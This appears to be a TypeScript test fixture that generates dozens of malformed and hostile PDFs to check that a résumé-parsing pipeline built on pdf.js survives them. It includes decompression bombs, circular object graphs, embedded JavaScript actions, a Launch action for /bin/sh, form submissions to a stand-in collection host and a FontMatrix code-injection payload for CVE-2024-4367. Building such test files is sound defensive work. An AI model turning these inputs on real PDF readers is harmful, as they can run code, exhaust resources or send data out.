import { deflateSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';
import { encode } from './hostile-file.ts';
import { column, makePdf } from './make-pdf.ts';

type Bytes = Uint8Array<ArrayBuffer>;
const good = (): Bytes => makePdf([column(['Skills', 'Python, Kubernetes, PostgreSQL, Docker'], 72, 700)]);
const goodText = (): string => Buffer.from(good()).toString('latin1');
/** A copy with one text for another; pdf.js then has to find the objects by itself. */
const swap = (from: string | RegExp, to: string): Bytes => encode(goodText().replace(from, to), 'latin1');
/** Numbered objects with the catalog first and no table of places. */
const loose = (objects: readonly string[], trailer = ''): Bytes =>
  encode(
    `%PDF-1.7\n${objects.map((object, n) => `${n + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R ${trailer}>>\n%%EOF`,
    'latin1',
  );
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const stream = (content: string, extra = ''): string =>
  `<< /Length ${content.length} ${extra}>>\nstream\n${content}\nendstream`;
const packed = (content: Uint8Array | string, extra = ''): string =>
  stream(deflateSync(content).toString('latin1'), `/Filter /FlateDecode ${extra}`);
const page = (content: string, extra = ''): Bytes =>
  loose([
    CATALOG,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extra}>>`,
    content,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
const action = (code: string): string => `<< /S /JavaScript /JS (${code}) >>`;
const shown = stream('BT /F1 12 Tf 72 700 Td (Skills: Python, Kubernetes, Docker) Tj ET');
const catalog = (extra: string): Bytes => swap('/Type /Catalog', `/Type /Catalog ${extra}`);

/** PDFs that are broken, loop, are far too large or want something run. */
export const HOSTILE_PDF: readonly HostileFile[] = [
  ...[5, 9, 20, 60, 120, 250, 400, 500, 600, 700].map((length): HostileFile => ({
    name: `cut after ${length} bytes`,
    bytes: () => good().slice(0, length),
  })),
  { name: 'table of places at 0', bytes: () => swap(/startxref\n\d+/, 'startxref\n0'), expected: ['done'] },
  {
    name: 'table of places past the end',
    bytes: () => swap(/startxref\n\d+/, 'startxref\n999999999'),
    expected: ['done'],
  },
  { name: 'negative place of the table', bytes: () => swap(/startxref\n\d+/, 'startxref\n-5'), expected: ['done'] },
  { name: 'table without numbers', bytes: () => swap(/\d{10} 00000 n/g, 'xxxxxxxxxx 00000 n') },
  { name: 'all objects at one place', bytes: () => swap(/\d{10} 00000 n/g, '0000000009 00000 n') },
  {
    name: 'table that names itself as the one before',
    bytes: () => {
      const at = goodText().lastIndexOf('xref\n0');
      return makePdf([column(['Skills: Python, Kubernetes, Docker'], 72, 700)], `/Prev ${at}`);
    },
  },
  { name: '4 billion objects claimed', bytes: () => swap(/\/Size \d+/, '/Size 4294967295') },
  { name: 'table of 2 billion places', bytes: () => swap(/xref\n0 \d+/, 'xref\n0 2000000000') },
  { name: 'no trailer', bytes: () => swap(/trailer[\s\S]*$/, '') },
  { name: 'no root', bytes: () => swap('/Root 1 0 R', '') },
  { name: 'root is a page', bytes: () => swap('/Root 1 0 R', '/Root 5 0 R') },
  { name: 'root is itself a reference in a circle', bytes: () => loose(['1 0 R']) },
  { name: 'pages that are their own kids', bytes: () => loose([CATALOG, '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']) },
  {
    name: 'two page trees that hold each other',
    bytes: () =>
      loose([CATALOG, '<< /Type /Pages /Count 2 /Kids [3 0 R] >>', '<< /Type /Pages /Count 2 /Kids [2 0 R] >>']),
  },
  {
    name: 'page tree 5,000 deep',
    bytes: () =>
      loose([CATALOG, ...Array.from({ length: 5000 }, (_, n) => `<< /Type /Pages /Count 1 /Kids [${n + 3} 0 R] >>`)]),
  },
  { name: 'a billion pages claimed', bytes: () => swap('/Count 1', '/Count 1000000000') },
  { name: 'minus one page', bytes: () => swap('/Count 1', '/Count -1') },
  { name: 'no pages', bytes: () => loose([CATALOG, '<< /Type /Pages /Count 0 /Kids [] >>']) },
  {
    name: '10,000 pages',
    bytes: () => makePdf(Array.from({ length: 10_000 }, () => column(['Python'], 72, 700))),
    expected: ['done'],
  },
  {
    name: '10,000 times the same page',
    bytes: () => swap(/\/Count 1 \/Kids \[(\d+ 0 R)\]/, `/Count 10000 /Kids [${'5 0 R '.repeat(10_000)}]`),
  },
  {
    name: '200,000 pieces of text on a page',
    bytes: () => page(stream(`BT /F1 1 Tf ${'1 0 0 1 9 9 Tm (ab) Tj '.repeat(200_000)} ET`)),
  },
  {
    name: 'one string of 5 MB',
    bytes: () => page(stream(`BT /F1 1 Tf (${'Python '.repeat(700_000)}) Tj ET`)),
    expected: ['done'],
  },
  {
    name: '100,000 saved states',
    bytes: () => page(stream(`${'q '.repeat(100_000)} BT /F1 9 Tf (Python and Docker and Kubernetes) Tj ET`)),
  },
  {
    name: '100,000 restored states',
    bytes: () => page(stream(`${'Q '.repeat(100_000)} BT /F1 9 Tf (Python and Docker and Kubernetes) Tj ET`)),
  },
  { name: 'lists 50,000 deep', bytes: () => page(stream(`${'['.repeat(50_000)} TJ`)) },
  { name: 'dictionaries 50,000 deep', bytes: () => catalog(`/X ${'<< /A '.repeat(50_000)}`) },
  { name: 'strings that never close', bytes: () => page(stream(`BT /F1 9 Tf ${'('.repeat(100_000)}`)) },
  {
    name: 'a form that draws itself',
    bytes: () =>
      loose([
        CATALOG,
        '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
        stream('/X Do'),
        stream(
          '/X Do /X Do',
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> ',
        ),
      ]),
  },
  {
    name: 'forms that double 30 times',
    bytes: () =>
      loose([
        CATALOG,
        '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
        stream('/X Do'),
        ...Array.from({ length: 30 }, (_, n) =>
          stream(
            '/X Do /X Do',
            `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${n + 6} 0 R >> >> `,
          ),
        ),
      ]),
  },
  { name: 'content that is its own length', bytes: () => page('<< /Length 4 0 R >>\nstream\nBT\nendstream') },
  { name: 'negative length', bytes: () => page(`<< /Length -1 >>\nstream\nBT /F1 9 Tf (Python) Tj ET\nendstream`) },
  {
    name: 'length of 9 GB',
    bytes: () => page(`<< /Length 9999999999 >>\nstream\nBT /F1 9 Tf (Python) Tj ET\nendstream`),
  },
  { name: 'stream without an end', bytes: () => page('<< /Length 9 >>\nstream\nBT') },
  { name: 'packed bomb of 100 MB of spaces', bytes: () => page(packed(Buffer.alloc(100_000_000, ' '))) },
  { name: 'packed bomb of text', bytes: () => page(packed(`BT /F1 1 Tf ${'(Python ) Tj '.repeat(1_500_000)}ET`)) },
  {
    name: 'packed twice',
    bytes: () =>
      page(
        stream(
          deflateSync(deflateSync(Buffer.alloc(50_000_000, ' '))).toString('latin1'),
          '/Filter [/FlateDecode /FlateDecode] ',
        ),
      ),
  },
  { name: 'packed 500 times by name', bytes: () => page(stream('x', `/Filter [${'/ASCIIHexDecode '.repeat(500)}] `)) },
  { name: 'broken packing', bytes: () => page(stream('not packed at all', '/Filter /FlateDecode ')) },
  { name: 'unknown packing', bytes: () => page(stream('x', '/Filter /Bogus ')) },
  {
    name: 'predictor of a million columns',
    bytes: () => page(packed('x'.repeat(5000), '/DecodeParms << /Predictor 15 /Columns 1000000000 /Colors 32 >> ')),
  },
  {
    name: 'object stream of 10 million objects',
    bytes: () => loose([packed('1 0 '.repeat(1000), '/Type /ObjStm /N 10000000 /First 10 ')]),
  },
  {
    name: 'object stream that holds itself',
    bytes: () => loose([packed('1 0 << /Type /Catalog >>', '/Type /ObjStm /N 1 /First 4 /Extends 1 0 R ')]),
  },
  {
    name: 'object stream of 20 MB',
    bytes: () => loose([CATALOG, packed(`9 0 ${'<< /A 1 >> '.repeat(2_000_000)}`, '/Type /ObjStm /N 1 /First 4 ')]),
  },
  {
    name: 'script on opening',
    bytes: () => catalog(`/OpenAction ${action('globalThis.harmed = true')}`),
    expected: ['done'],
  },
  {
    name: 'scripts by name',
    bytes: () => catalog(`/Names << /JavaScript << /Names [(a) ${action('globalThis.harmed = true')}] >> >>`),
    expected: ['done'],
  },
  {
    name: 'script in a page',
    bytes: () => page(shown, `/AA << /O ${action('globalThis.harmed = true')} >> `),
    expected: ['done'],
  },
  {
    name: 'script in a form field',
    bytes: () =>
      catalog(`/AcroForm << /Fields [<< /T (a) /FT /Tx /AA << /C ${action('globalThis.harmed = true')} >> >>] >>`),
    expected: ['done'],
  },
  {
    name: 'XFA form',
    bytes: () => catalog(`/AcroForm << /XFA (<xdp><script>globalThis.harmed = true</script></xdp>) >>`),
    expected: ['done'],
  },
  { name: 'launches a program', bytes: () => catalog('/OpenAction << /S /Launch /F (/bin/sh) >>'), expected: ['done'] },
  {
    name: 'opens an address',
    bytes: () => catalog('/OpenAction << /S /URI /URI (https://collect.example/) >>'),
    expected: ['done'],
  },
  {
    name: 'sends a form',
    bytes: () => catalog('/OpenAction << /S /SubmitForm /F (https://collect.example/) >>'),
    expected: ['done'],
  },
  {
    name: 'font matrix that is code (CVE-2024-4367)',
    bytes: () =>
      swap('/Subtype /Type1', '/Subtype /Type1 /FontMatrix [1 0 0 1 0 (0\\); globalThis.harmed = true; //)]'),
  },
  {
    name: 'function that is code',
    bytes: () => catalog(`/F << /FunctionType 4 /Domain [0 1] /Range [0 1] >>`),
    expected: ['done'],
  },
  {
    name: 'content in a file of the outside',
    bytes: () => page('<< /Length 0 /F (https://collect.example/x) >>\nstream\n\nendstream'),
    expected: ['scanned'],
  },
  { name: 'font without a name', bytes: () => swap('/BaseFont /Helvetica', '') },
  {
    name: 'font with an embedded file of noise',
    bytes: () =>
      swap(
        '/BaseFont /Helvetica',
        '/BaseFont /Helvetica /FontDescriptor << /Type /FontDescriptor /FontFile2 4 0 R /Flags 4 >>',
      ),
  },
  {
    name: 'encrypted by an unknown way',
    bytes: () => makePdf([column(['Python'], 72, 700)], '/Encrypt << /Filter /Bogus /V 9 >>'),
  },
  { name: 'encrypted with an empty dictionary', bytes: () => makePdf([column(['Python'], 72, 700)], '/Encrypt << >>') },
  {
    name: 'encrypted with a password',
    bytes: () =>
      makePdf(
        [column(['Python'], 72, 700)],
        `/ID [<00112233445566778899aabbccddeeff> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
      ),
    expected: ['encrypted'],
  },
  { name: 'page of NaN and endless size', bytes: () => swap('[0 0 612 792]', '[0 0 1e309 -1e309]') },
  { name: 'page turned by 17 degrees', bytes: () => swap('/MediaBox', '/Rotate 17 /MediaBox') },
  {
    name: 'text at endless places',
    bytes: () => page(stream('BT /F1 1e38 Tf 1e38 0 0 1e38 1e308 1e308 Tm (Python and Docker and Kubernetes) Tj ET')),
  },
  { name: 'no text', bytes: () => makePdf([[]]), expected: ['scanned'] },
  { name: 'only the mark', bytes: () => encode('%PDF-1.7') },
  {
    name: 'the mark and 3 MB of noise',
    bytes: () =>
      new Uint8Array(
        Buffer.concat([
          Buffer.from('%PDF-1.7\n'),
          Buffer.from(Array.from({ length: 3_000_000 }, (_, n) => (n * 7919 + (n >> 4)) % 256)),
        ]),
      ),
  },
  {
    name: '100,000 objects that are never closed',
    bytes: () => encode(`%PDF-1.7\n${Array.from({ length: 100_000 }, (_, n) => `${n + 1} 0 obj <<`).join('\n')}`),
  },
];
